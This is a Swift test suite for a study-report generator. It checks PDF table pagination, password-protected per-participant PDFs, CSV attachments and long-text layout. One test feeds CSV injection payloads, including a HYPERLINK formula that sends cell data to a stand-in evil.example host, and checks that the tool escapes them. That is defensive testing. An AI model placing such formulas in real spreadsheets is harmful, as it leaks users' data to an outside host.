import Foundation
import TestSupport
import Testing

/// Tests of exports and long text in PDF files, read with external programs.
@Suite(.enabled(if: PDFTools.areThere)) struct PrintedExportTests {
  /// Builds the PDF files of a project and returns the output folder.
  private func print(
    _ folder: URL, _ report: String, body: String, participants: String,
    rows: String = "id,date,steps,note\n",
    status: Int32 = 0
  ) throws -> URL {
    let project = """
      project: Little Study
      locale: en-GB
      data:
        participants: { csv: participants.csv, key: id }
        daily: { csv: daily.csv, participant: id, date: date, columns: { steps: { type: integer, label: Steps } } }
      reports:
        letter:
          template: letter.xhtml
          for-each: participants
          views: { all: { data: daily } }
          output: "{participant.id}.xhtml"
          \(report)
      """
    let template = """
      <html xmlns="http://www.w3.org/1999/xhtml" xmlns:rg="urn:reportgen" lang="en-GB">
      <head><title>Letter</title><rg:stylesheet/></head><body><h1>Dear {{ participant.name }}</h1>
      \(body)</body></html>
      """
    for (name, text) in [
      "reportgen.yml": project, "letter.xhtml": template, "participants.csv": participants,
      "daily.csv": rows,
    ] { try Data(text.utf8).write(to: folder.appending(path: name)) }
    let program = try #require(builtProgram(), "the program is not built beside the tests")
    let built = try runProcess(program.path(), ["build", "--pdf"], in: folder)
    #expect(built.status == status, "\(built.errors)")
    return folder.appending(path: "out")
  }

  @Test func `a long table has each row and the total once, headers on each page`()
    async throws
  {
    try await ProjectTests.withFolder { folder in
      let notice = Array(repeating: "a remark of several lines", count: 10).joined(separator: " ")
      let rows = (0..<150).map { row in
        let day = String(format: "2026-%02d-%02d", 6 + row / 30, 1 + row % 30)
        return "P1,\(day),\(1000 + row),row \(row)\(row % 17 == 3 ? " with " + notice : "")"
      }
      let out = try print(
        folder, "print: { paper: A4 }",
        body: """
          <rg:table data="all" columns="date steps note" caption="All days" total="sum"/><p>The end.</p>
          """,
        participants: "id,name\nP1,Ana\n",
        rows: "id,date,steps,note\n" + rows.joined(separator: "\n") + "\n")
      let file = out.appending(path: "P1.pdf")
      let pages = try runProcess("pdftotext", ["-layout", file.path(), "-"]).output
        .split(separator: "\u{C}").map(String.init)
      #expect(pages.count > 4)
      for page in pages where page.contains(#/row \d/#) {
        #expect(page.matches(of: #/(?m)^ *date +Steps +note *$/#).count == 1)
      }
      let text = try PDFTools.text(of: file)
      #expect(
        text.matches(of: #/\brow \d+/#).map { String($0.output) } == (0..<150).map { "row \($0)" })
      #expect(
        text.matches(of: #/\b1,[01]\d\d\b/#).map { String($0.output) }
          == (0..<150).map { "1,\($0 < 100 ? $0 < 10 ? "00" : "0" : "")\($0)" })
      // 150 rows, starting with 1,000.
      #expect(text.matches(of: #/161,175/#).count == 1)
      #expect(text.contains("The end."))
    }
  }

  @Test(
    .enabled(if: PDFTools.hasQPDF),
    arguments: [
      ["12.50", "100", "1e5"], ["1967-03-09", "1971-12-24", "2000-01-01"], ["007", "+49", "12,5"],
    ])
  func `a password is the unchanged code in the file`(codes: [String]) async throws {
    try await ProjectTests.withFolder { folder in
      let participants = codes.enumerated().map { "P\($0.offset),Ana,\"\($0.element)\"\n" }.joined()
      let out = try print(
        folder, "pdf: { password: code }", body: "<p>Words</p>",
        participants: "id,name,code\n" + participants + "P9,Ben,\n", status: 1)
      for index in codes.indices {
        for (other, code) in codes.enumerated() {
          let opened = try runProcess(
            "qpdf",
            [
              "--password=" + code, "--decrypt", out.appending(path: "P\(index).pdf").path(),
              folder.appending(path: "opened.pdf").path(),
            ])
          #expect((opened.status == 0) == (other == index), "\(code) for \(codes[index])")
        }
      }
      #expect(!FileManager.default.fileExists(atPath: out.appending(path: "P9.pdf").path()))
    }
  }

  @Test func `an attached file opens as text in a spreadsheet and runs no formula`()
    async throws
  {
    try await ProjectTests.withFolder { folder in
      let out = try print(
        folder, "pdf: { attach: { all: [date, steps, note] } }", body: "<p>Words</p>",
        participants: "id,name\nP1,Ana\n",
        rows: #"""
          id,date,steps,note
          P1,2026-11-02,-5,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"
          P1,2026-11-03,5,+1+1
          P1,2026-11-04,5,@SUM(A1)
          P1,2026-11-05,5,"a
          b, ""q"""
          P1,2026-11-06,,Zoë

          """#)
      let file = folder.appending(path: "all.csv")
      let saved = try runProcess(
        "pdfdetach",
        ["-savefile", "all.csv", "-o", file.path(), out.appending(path: "P1.pdf").path()])
      #expect(saved.status == 0, "\(saved.errors)")
      let script = """
        import csv, json, sys
        text = open(sys.argv[1], 'rb').read()
        assert text.startswith(b'\\xef\\xbb\\xbf')
        print(json.dumps(list(csv.reader(text.decode('utf-8-sig').splitlines(True)))))
        """
      let read = try runProcess("python3", ["-c", script, file.path()])
      #expect(read.status == 0, "\(read.errors)")
      let cells = try JSONDecoder().decode([[String]].self, from: Data(read.output.utf8))
      #expect(
        cells == [
          ["date", "steps", "note"],
          ["2026-11-02", "-5", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"],
          ["2026-11-03", "5", "'+1+1"], ["2026-11-04", "5", "'@SUM(A1)"],
          ["2026-11-05", "5", "a\nb, \"q\""], ["2026-11-06", "", "Zoë"],
        ])
    }
  }

  @Test func `long words are within the page, and headers do not overlap`() async throws {
    try await ProjectTests.withFolder { folder in
      let name = "Ada " + String(repeating: "wolfeschlegelsteinhausenbergerdorff", count: 3)
      let clinic =
        "https://study.example/" + String(repeating: "participants/enrolment/consent-", count: 4)
      let out = try print(
        folder,
        "print: { header: { left: \"{{ participant.name }}\", right: \"{{ participant.clinic }}\" } }",
        body: """
          <p>{{ participant.clinic }}</p><ul><li>{{ participant.clinic }}</li></ul>
          <rg:table data="all" columns="date steps note" caption="{{ participant.name }}"/>
          <table><caption>Own</caption><tbody><tr><th scope="row">Name</th><td>{{ participant.clinic }}</td></tr></tbody></table>
          """,
        participants: "id,name,clinic\nP1,\(name),\(clinic)\n",
        rows: "id,date,steps,note\nP1,2026-11-02,1000,\(clinic)\n")
      let boxes = try runProcess(
        "pdftotext", ["-bbox", out.appending(path: "P1.pdf").path(), "-"]
      ).output
      let width = try #require(
        boxes.firstMatch(of: #/<page width="([0-9.]+)"/#).flatMap { Double($0.output.1) })
      var pieces: [(left: Double, right: Double, top: Double, text: String)] = []
      for word in boxes.matches(
        of: #/xMin="([0-9.-]+)" yMin="([0-9.-]+)" xMax="([0-9.]+)" yMax="[0-9.]+">([^<]*)</#)
      {
        pieces.append(
          (
            Double(word.output.1) ?? .nan, Double(word.output.3) ?? .nan,
            Double(word.output.2) ?? .nan, String(word.output.4).replacing("\u{200B}", with: "")
          ))
      }
      #expect(pieces.count > 20)
      // Half of the margins of 20 mm.
      for piece in pieces { #expect(piece.left > 28 && piece.right < width - 28, "\(piece)") }
      let headers = pieces.filter { $0.top < 56 }
      let leftHeader = headers.filter { $0.left < width / 3 }
      let right = headers.filter { $0.left >= width / 3 }
      #expect(leftHeader.map(\.text).joined() == name.replacing(" ", with: ""))
      #expect(right.map(\.text).joined() == clinic)
      #expect((leftHeader.map(\.right).max() ?? 0) < (right.map(\.left).min() ?? 0))
    }
  }
}
